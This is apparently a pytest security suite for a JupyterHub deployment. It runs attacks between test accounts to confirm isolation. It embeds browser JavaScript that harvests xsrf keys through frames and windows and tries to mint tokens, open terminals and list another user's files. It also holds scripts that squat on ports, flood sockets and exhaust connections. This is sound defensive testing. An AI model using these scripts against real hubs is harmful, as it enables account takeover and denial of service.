"""What one account tries against another on a real hub: by a page of its own server, and by every socket. Played by house.py only.

Mal's server answers anybody with a page whose script does what it can with the visitor's cookies. Ana and Ida open it in a real
Chromium after they have logged in. Each attack is also played where it must succeed: a trap that catches nobody proves nothing.
"""

import asyncio
import contextlib
import json
import pwd
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import psutil
import pytest
import requests
from jupyterhub.auth import PAMAuthenticator
from running_hub import GRADER, Hub, make_accounts, processes_of, run
from traitlets.config.loader import PyFileConfigLoader
from visitor import MAKES_TOKENS, Kernel, Visitor

ROOT = Path(__file__).resolve().parents[2]
PASSWORDS = {"mal": "first-pass-9", "ana": "second-pass-8", "ida": "third-pass-7"}
GROUPS = {"mal": "allranks-students", "ana": "allranks-students", "ida": "allranks-instructors"}
STATE = Path("/var/lib/allranks/hub/jupyterhub.sqlite")
# where a browser finds whose server, by the hub's setting
HOSTS = {
    "wildcard": {name: f"{name}.hub.localhost:8000" for name in (*GROUPS, GRADER)},
    "three": {**dict.fromkeys(GROUPS, "people.hub.localhost:8000"), GRADER: "grader.hub.localhost:8000"},
    "one": dict.fromkeys((*GROUPS, GRADER), "127.0.0.1:8000"),
}
HUBS = {"wildcard": "hub.localhost:8000", "three": "hub.localhost:8000", "one": "127.0.0.1:8000"}

# Mal's own Jupyter server, which he may change as he likes: one page that asks nobody to log in
TRAP = """
from jupyter_server.serverapp import ServerApp
from tornado import web

class Trap(web.RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/html")
        self.finish("<h1>Lecture notes</h1>")

started = ServerApp.init_webapp

def init_webapp(self):
    started(self)
    self.web_app.add_handlers(".*", [("/user/mal/notes", Trap)])

ServerApp.init_webapp = init_webapp
"""
# What the page's script gets from the hub and from servers, by name: true where it read or did something
ATTACKS = """
async ([hub, anas, graders, name]) => {
    const got = {};
    const attempt = async (what, act) => {
        try { got[what] = Boolean(await act()); } catch { got[what] = false; }
    };
    const ask = (url, options = {}) => fetch(url, {credentials: "include", ...options});
    const soon = ms => new Promise(done => setTimeout(done, ms));
    // keys against forged requests: from the cookies of a page in a frame or a window, or from the page's text
    const framed = async url => {
        const frame = document.createElement("iframe");
        frame.src = url;
        const loaded = new Promise(done => { frame.onload = done; });
        document.body.append(frame);
        await Promise.race([loaded, soon(8000)]);
        return frame.contentDocument;
    };
    const keys = async pages => {
        const texts = [];
        for (const url of pages) {
            try { texts.push((await framed(url)).cookie); } catch {}
            try { texts.push(await (await ask(url)).text()); } catch {}
            const opened = window.open(url);
            for (let i = 0; opened && i < 10; i++) {
                await soon(300);
                try { texts.push(opened.document.cookie); } catch {}
            }
            if (opened) opened.close();
        }
        const found = texts.flatMap(text => [...text.matchAll(/xsrf(?:_token)?(?:=|: ")([\\w|=-]+)/g)].map(one => one[1]));
        return [...new Set(found), ""];
    };
    const some = async (all, act) => {
        for (const key of all) { try { if (await act(key)) return true; } catch {} }
        return false;
    };
    const hubs = await keys([hub + "/hub/token", hub + "/hub/static/favicon.ico"]);
    await attempt("the hub's page of tokens is read", async () => (await (await ask(hub + "/hub/token")).text()).includes("oken"));
    await attempt("the hub's page is read in a frame", async () => (await framed(hub + "/hub/logo")).body.children.length >= 0);
    await attempt("who one is, is read", () => some(hubs, async key =>
        (await (await ask(`${hub}/hub/api/user?_xsrf=${key}`)).json()).name === name));
    await attempt("a token is made", () => some(hubs, async key =>
        (await ask(`${hub}/hub/api/users/${name}/tokens?_xsrf=${key}`, {method: "POST", body: "{}",
            headers: {"Content-Type": "application/json"}})).status === 201));
    await attempt("a token is made by a simple request", () => some(hubs, async key =>
        (await ask(`${hub}/hub/api/users/${name}/tokens?_xsrf=${key}`, {method: "POST"})).status === 201));
    await attempt("the grader's server is stopped", () => some(hubs, async key => name !== "ana" &&
        (await ask(`${hub}/hub/api/users/allranks-grader/server?_xsrf=${key}`, {method: "DELETE"})).ok));
    for (const [what, server] of [["the visitor's", anas], ["the grader's", graders]]) {
        const theirs = await keys([server + "/static/favicons/favicon.ico", server + "/lab"]);
        await attempt(`${what} files are listed`, () => some(theirs, async key =>
            (await (await ask(`${server}/api/contents?_xsrf=${key}`)).json()).type === "directory"));
        await attempt(`a terminal is opened on ${what} server`, () => some(theirs, async key =>
            (await ask(`${server}/api/terminals?_xsrf=${key}`, {method: "POST"})).ok));
    }
    return got;
}
"""


class Site:
    """One hub with its setting of names, and what its visitors find."""

    def __init__(self, hub: Hub, names: str) -> None:
        self.hub, self.names = hub, names
        self.at = f"http://{HUBS[names]}"

    def server(self, name: str) -> str:
        return f"http://{HOSTS[self.names][name]}/user/{name}"

    def call(self, method: str, path: str, name: str) -> requests.Response:
        """A request to the hub with a token of the person's, which the scene's service makes."""
        made = requests.post(
            f"{self.at}/hub/api/users/{name}/tokens", headers={"Authorization": f"token {MAKES_TOKENS}"}, timeout=60
        )
        return requests.request(
            method, self.at + path, headers={"Authorization": f"token {made.json()['token']}"}, timeout=120
        )


@pytest.fixture(scope="module")
def house(tmp_path_factory):
    """The accounts, and Mal's page."""
    make_accounts({name: (PASSWORDS[name], GROUPS[name]) for name in PASSWORDS})
    with open("/etc/hosts", "a", encoding="utf-8") as hosts:
        hosts.write("127.0.0.1 people.hub.localhost grader.hub.localhost\n")
    settings = Path("/home/mal/.jupyter")
    settings.mkdir()
    (settings / "jupyter_server_config.py").write_text(TRAP)
    run("chown", "-R", "mal:", settings)
    return tmp_path_factory.mktemp("hub")


@contextlib.contextmanager
def running(hub: Hub, **environment: str) -> Iterator[Hub]:
    """The hub, which is the only one; when it has stopped, nothing is left of it, for the next one."""
    hub.start(**environment)
    try:
        yield hub
    finally:
        hub.stop()
        STATE.unlink(missing_ok=True)  # the next hub knows nobody
        print(hub.log.read_text()[-12000:])
        for process in [p for name in (*GROUPS, GRADER) for p in processes_of(name)]:
            with contextlib.suppress(psutil.NoSuchProcess):  # its parent took it along
                process.kill()


@pytest.fixture(scope="module", params=["wildcard", "three", "one"])
def site(house, request):
    """A hub with this setting, on which Mal's and Ana's servers run, and the grader's where it may."""
    with running(Hub(house / f"{request.param}.log"), ALLRANKS_HUB_NAMES=request.param) as hub:
        here = Site(hub, request.param)
        for name in ("mal", "ana"):
            Visitor.log_in(name, PASSWORDS[name], here.at)
            assert here.call("POST", f"/hub/api/users/{name}/server", name).ok
        Visitor.log_in("ida", PASSWORDS["ida"], here.at)
        started = here.call("POST", f"/hub/api/users/{GRADER}/server", "ida")
        assert started.ok == (request.param != "one"), started.text
        for name in ("mal", "ana", *([GRADER] if started.ok else [])):
            wait_for(here, name)
        yield here
        for name in ("mal", "ana", GRADER):
            here.call("DELETE", f"/hub/api/users/{name}/server", "ida" if name == GRADER else name)


def wait_for(site: Site, name: str) -> None:
    """Until the person's own process listens for the hub."""
    for _ in range(1200):
        about = site.call(
            "GET", f"/hub/api/users/{'ida' if name == GRADER else name}", "ida" if name == GRADER else name
        )
        if name == GRADER:
            if requests.get(site.server(name) + "/api/status", timeout=60, allow_redirects=False).status_code == 403:
                return
        elif about.json().get("server"):
            return
        time.sleep(0.5)
    raise TimeoutError(f"the server of {name} is not up")


@pytest.fixture(scope="module")
def chromium():
    sys.path.insert(0, str(ROOT / "tests" / "browser"))
    from jupyter_lab import chromium_program, running_chromium

    if chromium_program() is None:
        pytest.fail("no Chromium or Chrome is installed: apt install chromium")
    with running_chromium() as browser:
        yield browser


def visit(browser, site: Site, name: str) -> dict[str, bool]:
    """What Mal's page gets of somebody who has logged in, and whose own server (or the grader's) is open in another tab."""
    context = browser.new_context()
    context.set_default_timeout(300_000)
    page = context.new_page()
    page.goto(f"{site.at}/hub/login")
    page.fill("input[name=username]", name)
    page.fill("input[name=password]", PASSWORDS[name])
    page.press("input[name=password]", "Enter")
    page.wait_for_url(lambda url: "/hub/login" not in url)
    page.goto(f"{site.at}/hub/home")
    own = "ana" if name == "ana" else GRADER
    if own == "ana" or site.names != "one":
        page.goto(f"{site.server(own)}/api/status")
        page.goto(f"{site.server(own)}/lab")
        if "/oauth2/authorize" in page.url:  # the hub asks whether another account's server may know who one is
            page.click("[type=submit]")
        page.wait_for_url(lambda url: "/oauth2/" not in url)
    trap = context.new_page()
    trap.goto(f"{site.server('mal')}/notes")
    assert trap.inner_text("h1") == "Lecture notes", "the trap is not there"
    got = trap.evaluate(ATTACKS, [site.at, site.server("ana"), site.server(GRADER), name])
    context.close()
    return got


# Takes a port; listens on it after a word from us; says what it is sent, and answers as a server would
GREEDY = """
import socket, sys
with socket.socket() as s:
    s.bind(("127.0.0.1", 45000))
    print("bound", flush=True)
    sys.stdin.readline()
    s.listen()
    print("listens", flush=True)
    while True:
        peer, _ = s.accept()
        with peer:
            print(peer.recv(1 << 16), flush=True)
            peer.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 2\\r\\n\\r\\n{}")
"""


def within_two_minutes(reached: Callable[[], object]) -> None:
    """Waits until it is so; raises AssertionError if that takes longer."""
    deadline = time.monotonic() + 120
    while not reached():
        assert time.monotonic() < deadline, "nothing happens"
        time.sleep(0.5)


# It has a hub of its own, so that it stands before the tests with `site`, whose last hub runs until all tests are done
def test_nobody_is_sent_requests_in_the_place_of_anothers_server(house):
    """Mal takes the port that the hub has chosen for Ana before her server listens: the hub says so, and sends nothing there."""
    local = Path("/etc/allranks/hub.py")
    text = local.read_text()
    local.write_text(text + "c.Spawner.port = 45000\n")
    mal = ["setpriv", "--reuid=mal", "--clear-groups", sys.executable, "-c", GREEDY]
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE}
    with running(Hub(house / "greedy.log")) as hub, subprocess.Popen(mal, **pipes, text=True, cwd="/") as greedy:
        try:
            assert greedy.stdout.readline() == "bound\n"
            ana = Visitor.log_in("ana", PASSWORDS["ana"])

            def about() -> dict:
                return ana.call("GET", "/hub/api/users/ana")

            ana.ask("POST", "/hub/api/users/ana/server")
            within_two_minutes(lambda: not processes_of("ana"))  # her server can't have the port
            greedy.stdin.write("\n")
            greedy.stdin.flush()
            assert greedy.stdout.readline() == "listens\n"
            within_two_minutes(lambda: not about()["pending"])
            assert not about()["server"]
            assert "the server of ana has ended without listening on port 45000" in hub.log.read_text()

            ana.ask("POST", "/hub/api/users/ana/server")
            within_two_minutes(lambda: not about()["pending"])
            assert not about()["server"]
            assert "listens on port 45000, which is for the server of ana" in hub.log.read_text()
        finally:
            greedy.kill()
            local.write_text(text)
        assert greedy.stdout.read() == "", "Mal was sent something"


def test_a_students_page_gets_nothing_of_its_visitor(site, chromium):
    """With a wildcard name nothing at all; with three names no more than another student's server; and never a token."""
    stolen = {name: {what for what, yes in visit(chromium, site, name).items() if yes} for name in ("ana", "ida")}
    anas = {"the visitor's files are listed", "a terminal is opened on the visitor's server"}
    assert not [what for what in stolen["ana"] | stolen["ida"] if "token is made" in what]
    assert not [what for what in stolen["ida"] if "grader" in what]
    if site.names == "wildcard":
        assert stolen == {"ana": set(), "ida": set()}
    elif site.names == "three":
        assert stolen == {"ana": anas, "ida": set()}
    else:  # the trap is sharp: under one name it does get what its visitor has
        assert anas | {"who one is, is read"} <= stolen["ana"]


def test_the_hub_says_what_a_page_could_do(site):
    said = site.hub.log.read_text()
    assert ("WARNING: ALLRANKS_HUB_NAMES=" in said) == (site.names != "wildcard")


def test_nobody_makes_a_token(site):
    """Whatever key somebody holds: none of theirs has that right."""
    for name in ("ana", "ida"):
        assert site.call("POST", f"/hub/api/users/{name}/tokens", name).status_code == 403


# Connects to each socket, as a peer would that speaks HTTP, ZeroMQ, or nothing that the other knows, and sends up to 64 MiB: by
# address, how many bytes went through. An end that refuses, or hangs up, takes no more than what the kernels' buffers hold.
STRANGER = """
import json, socket, struct, sys
told, length = json.load(sys.stdin)
HTTP = b"POST /hub/login HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: %d\\r\\n\\r\\n" % length
ZMTP = b"\\xff" + bytes(7) + b"\\x01\\x7f\\x03\\x01" + b"NULL".ljust(20, b"\\0") + bytes(32)
ZMTP += b"\\x04\\x19\\x05READY\\x0bSocket-Type\\x00\\x00\\x00\\x04PUSH" + b"\\x02" + struct.pack(">Q", 700 << 20)
went = {}
for where in told:
    for name, first in (("http", HTTP), ("zmtp", ZMTP), ("noise", b"")):
        family = socket.AF_UNIX if isinstance(where, str) else socket.AF_INET
        sent = 0
        try:
            with socket.socket(family) as s:
                s.settimeout(5)
                s.connect(where if isinstance(where, str) else tuple(where))
                s.sendall(first)
                while sent < 64 << 20:
                    sent += s.send(bytes(1 << 18))
        except OSError:
            pass
        went[f"{where} {name}"] = sent
print(json.dumps(went))
"""
BUFFERS = 16 << 20  # more than a kernel keeps for two ends of a connection (tcp_rmem and tcp_wmem: 6 and 4 MiB)


def listening(name: str) -> list:
    """Every socket on which a person's processes listen: TCP as [address, port], Unix as a path."""
    uid = pwd.getpwnam(name).pw_uid
    found = []
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            words = line.split()
            if words[3] == "0A" and int(words[7]) == uid:
                found.append(["127.0.0.1", int(words[1].rpartition(":")[2], 16)])
    mine = set()
    for process in processes_of(name):
        for fd in Path(f"/proc/{process.pid}/fd").iterdir():
            try:
                mine.add(fd.readlink().name)
            except OSError:
                continue
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        words = line.split()
        if len(words) > 7 and int(words[3], 16) & 0x10000 and f"socket:[{words[6]}]" in mine:
            found.append(words[7].replace("@", "\0", 1))
    return found


def as_account(name: str, sockets: list, length: int = 400_000_000) -> dict[str, int]:
    done = subprocess.run(
        ["setpriv", f"--reuid={name}", f"--regid={name}", "--clear-groups", sys.executable, "-c", STRANGER],
        input=json.dumps([sockets, length]), capture_output=True, text=True, cwd="/", check=True,
    )  # fmt: skip
    return json.loads(done.stdout)


@pytest.mark.parametrize("site", ["wildcard"], indirect=True)  # names in browsers do not change sockets
def test_no_socket_of_a_person_takes_anything_from_another_account(site):
    """Each on which Ana's server, kernel, fork server and ranks listen; Ana herself reaches them."""
    ana = Visitor.log_in("ana", PASSWORDS["ana"])
    with ThreadPoolExecutor(1) as apart:  # in this thread Playwright's loop runs
        apart.submit(asyncio.run, asyncio.wait_for(sockets_while_a_world_is_there(ana), 900)).result()


async def sockets_while_a_world_is_there(ana: Visitor) -> None:
    kernel = await Kernel(ana, "chapters").open()
    await kernel.says("from allranks import World; world = World(ranks=2); print(world.run(lambda: 1))")
    sockets = listening("ana")
    ports = [where for where in sockets if not isinstance(where, str)]
    paths = [where for where in sockets if isinstance(where, str)]
    assert len(paths) > 15, "the kernel's, the controller's, the fork server's and the ranks'"
    assert len(ports) == 1, f"only the server itself has a port, for the hub's proxy: {ports}"
    went = await asyncio.to_thread(as_account, "mal", sockets)
    assert len(went) == 3 * len(sockets)
    assert {where: sent for where, sent in went.items() if sent > BUFFERS} == {}
    own = await asyncio.to_thread(as_account, "ana", ports)
    assert own[f"{ports[0]} http"] > BUFFERS, "the attack is none: nobody gets through"
    ana.call("DELETE", f"/user/ana/api/kernels/{kernel.id}")


@pytest.mark.parametrize("site", ["wildcard"], indirect=True)
def test_no_server_has_hold_of_the_hubs_log(site):
    """Whoever has a file open may empty it, write what the hub says, and read the terminal if it is one: each server has its own."""
    for name in ("mal", "ana", GRADER):
        log = STATE.parent / "servers" / f"{name}.log"
        opened = {path.readlink() for one in processes_of(name) for path in Path(f"/proc/{one.pid}/fd").iterdir()}
        assert log in opened and site.hub.log not in opened
        assert log.stat().st_uid == log.parent.stat().st_uid == 0
        assert log.stat().st_mode & 0o077 == log.parent.stat().st_mode & 0o077 == 0
        assert "Jupyter Server" in log.read_text()


# Opens connections, says nothing, and tells how many the other end keeps
CROWD = """
import select, socket, sys
crowd = [socket.create_connection(("127.0.0.1", 8081)) for _ in range(200)]
for one in crowd:
    one.setblocking(False)
kept = len(crowd)
while gone := [one for one in select.select(crowd, [], [], 10)[0]]:
    crowd = [one for one in crowd if one not in gone]
    kept = len(crowd)
print(kept, flush=True)
sys.stdin.read()
"""


@pytest.mark.parametrize("site", ["wildcard"], indirect=True)
def test_one_account_takes_neither_the_hubs_connections_nor_its_memory(site):
    """Mal asks the hub itself, past the proxy: he holds some connections, and no more of a body than the kernel's buffers."""
    mal = ["setpriv", "--reuid=mal", "--regid=mal", "--clear-groups", sys.executable, "-c", CROWD]
    with subprocess.Popen(mal, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd="/") as crowd:
        kept = int(crowd.stdout.readline())
        assert 0 < kept <= 64
        assert Visitor.log_in("ana", PASSWORDS["ana"]).call("GET", "/hub/api/user")["name"] == "ana"
        crowd.stdin.close()
    hub = [["127.0.0.1", 8081]]
    went = as_account("mal", hub, 90 << 20)
    assert {where: sent for where, sent in went.items() if sent > BUFFERS} == {}
    limit = Path(f"/proc/{site.hub.process.pid}/limits").read_text().partition("Max open files")[2].split()
    assert limit[0] == limit[1], "what comes through the proxy is nobody's"


def test_wrong_passwords_hold_up_nobody(house, monkeypatch):
    """PAM answers a wrong password after seconds; meanwhile somebody else logs in."""
    answers = threading.Event()

    def checked(name: str, password: str, **_: object) -> None:
        if name == "mal":
            answers.wait()

    monkeypatch.setattr("pamela.authenticate", checked)
    monkeypatch.setattr("pamela.check_account", lambda *_, **__: None)
    config = PyFileConfigLoader("jupyterhub_config.py", path=str(ROOT / "deploy")).load_config()
    pam = PAMAuthenticator(config=config)

    async def log_in() -> None:
        wrong = [
            asyncio.ensure_future(pam.authenticate(None, {"username": "mal", "password": "x"})) for _ in range(100)
        ]
        try:
            assert await asyncio.wait_for(pam.authenticate(None, {"username": "ana", "password": "y"}), 60)
        finally:
            answers.set()
        await asyncio.gather(*wrong)

    with ThreadPoolExecutor(1) as apart:
        apart.submit(asyncio.run, log_in()).result()
